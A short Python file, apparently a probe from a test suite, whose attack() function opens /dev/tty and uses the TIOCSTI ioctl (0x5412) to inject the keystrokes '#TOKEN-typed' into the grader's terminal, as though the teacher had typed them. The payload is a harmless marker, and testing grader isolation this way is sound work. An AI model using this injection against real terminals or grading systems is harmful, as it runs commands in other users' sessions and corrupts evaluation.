"""Looks for the grader's terminal and types into it, as if the teacher had."""

import fcntl
import os


def attack(targets):
    try:
        terminal = os.open("/dev/tty", os.O_RDWR)
        yield "OPENED the terminal"
    except OSError as problem:
        yield f"/dev/tty: {problem.strerror}"
        terminal = 0
    try:
        for character in b"#TOKEN-typed\n":
            fcntl.ioctl(terminal, 0x5412, bytes([character]))
        yield "TYPED"
    except OSError as problem:
        yield f"typing: {problem.strerror}"
